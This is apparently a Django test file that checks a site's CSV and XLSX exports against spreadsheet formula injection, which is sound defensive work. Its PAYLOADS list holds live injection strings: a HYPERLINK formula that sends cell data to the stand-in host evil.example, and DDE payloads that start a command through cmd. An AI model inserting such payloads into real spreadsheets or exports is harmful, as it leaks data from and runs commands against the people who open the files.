"""Formula injection: text typed on the public forms or in the site search, or by an editor,
reaches every spreadsheet the project writes; none of them may let a spreadsheet run it.

Each CSV route is tested with the payloads of the security review; the admin's XLSX export
follows the same rule (portal/exports.py)."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from wagtail.contrib.search_promotions.models import Query

from calls.models import Laureate
from portal.exports import neutralise, restore
from tests.factories import CountryFactory, ThemeFactory
from tests.factories.calls import CallIndexPageFactory, CallPageFactory, LaureateFactory, LaureatesPageFactory
from tests.factories.intake import LabelRequestFactory, OfferFactory, build_intake_site, setup_roles, user_in_group

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def is_number(value):
    try:
        float(value)
    except ValueError:
        return False
    return True


def assert_no_formula(rows):
    """No text cell a spreadsheet would run (a negative number such as a longitude is a number)."""
    for row in rows:
        for value in row:
            assert is_number(value) or not value.startswith(("=", "+", "-", "@", "\t", "\r")), repr(value)


def test_the_rule():
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
        assert restore(neutralise(payload)) == payload
    assert neutralise("Ville de Lyon") == "Ville de Lyon" and neutralise(42) == 42 and neutralise(None) is None
    assert neutralise("Saint-Louis = ville") == "Saint-Louis = ville"  # only the first character counts


@pytest.fixture
def call_with_payloads(site_tree):
    index = CallIndexPageFactory()
    country = CountryFactory(iso_code="MX", name="Mexique")
    theme = ThemeFactory(slug="culture", name="Culture")
    call = CallPageFactory(parent=index, title="=Appel 2020", edition_year=2020, closed=True)
    for n, payload in enumerate(PAYLOADS):
        LaureateFactory(
            page=call,
            french_authority=payload,
            partner_authority="Xalapa",
            project_title=payload,
            country=country,
            theme=theme,
            sort_order=n,
        )
    return index, call


def test_laureates_csv_of_a_call_neutralises_formulas(client, call_with_payloads):
    _index, call = call_with_payloads
    rows = csv_rows(client.get(call.url + "laureates/csv/").content)
    assert_no_formula(rows)
    header, body = rows[0], rows[1:]
    assert [row[header.index("french_authority")] for row in body] == ["'" + payload for payload in PAYLOADS]
    assert body[0][header.index("call")] == "'=Appel 2020"
    assert body[0][header.index("partner_authority")] == "Xalapa"  # plain text untouched


def test_laureates_csv_across_calls_neutralises_formulas(client, call_with_payloads):
    index, _call = call_with_payloads
    page = LaureatesPageFactory(parent=index)
    rows = csv_rows(client.get(page.url + "csv/").content)
    assert len(rows) == len(PAYLOADS) + 1
    assert_no_formula(rows)


def test_the_exported_csv_imports_back_as_typed(client, call_with_payloads):
    _index, call = call_with_payloads
    exported = client.get(call.url + "laureates/csv/").content
    client.force_login(get_user_model().objects.create_superuser("admin", "admin@example.org", "pw"))
    response = client.post(
        reverse("calls_import_laureates", args=[call.pk]),
        {"file": SimpleUploadedFile("laureats.csv", exported), "replace": "on"},
    )
    assert response.status_code == 302
    imported = Laureate.objects.filter(page=call).values_list("french_authority", flat=True)
    assert sorted(imported) == sorted(payload.strip() for payload in PAYLOADS)  # the importer trims cells


@pytest.fixture
def intake_records(db):
    site = build_intake_site()
    setup_roles()
    offer = OfferFactory(
        country=site["countries"]["SN"],
        project_title=PAYLOADS[0],
        authority_name=PAYLOADS[1],
        embassy=PAYLOADS[2],
        contact_name=PAYLOADS[3],
        published=True,
    )
    request = LabelRequestFactory(authority_name=PAYLOADS[0], competences=PAYLOADS[2], contact_name=PAYLOADS[1])
    return offer, request


@pytest.mark.parametrize("listing", ["partnership_offers", "label_requests"])
def test_admin_csv_exports_of_intake_records_neutralise_formulas(client, intake_records, listing):
    client.force_login(user_in_group("instructrice", "Instructeurs"))
    response = client.get(f"/admin/{listing}/?export=csv")
    assert response.status_code == 200
    rows = csv_rows(b"".join(response.streaming_content))
    assert len(rows) == 2
    assert_no_formula(rows)
    assert "'" + PAYLOADS[0] in rows[1]


def test_admin_xlsx_export_shares_the_rule(client, intake_records):
    client.force_login(user_in_group("instructrice", "Instructeurs"))
    response = client.get("/admin/partnership_offers/?export=xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    values = [cell.value for row in workbook.active.iter_rows(min_row=2) for cell in row]
    for payload in PAYLOADS[:4]:
        assert "'" + payload in values
    assert not any(isinstance(value, str) and value.startswith(("=", "+", "-", "@")) for value in values)


def test_search_terms_typed_by_visitors_are_neutralised_in_the_report(client, site_tree):
    # Any visitor's search is counted for the editors' report, which they export.
    client.get("/fr/recherche/", {"q": PAYLOADS[0]})
    assert Query.objects.filter(query_string__startswith="=hyperlink").exists()
    client.force_login(get_user_model().objects.create_superuser("admin", "admin@example.org", "pw"))
    response = client.get(reverse("wagtailsearchpromotions:search_terms") + "?export=csv")
    assert response.status_code == 200
    rows = csv_rows(b"".join(response.streaming_content))
    assert_no_formula(rows)
    assert any(row[0].startswith("'=hyperlink") for row in rows)
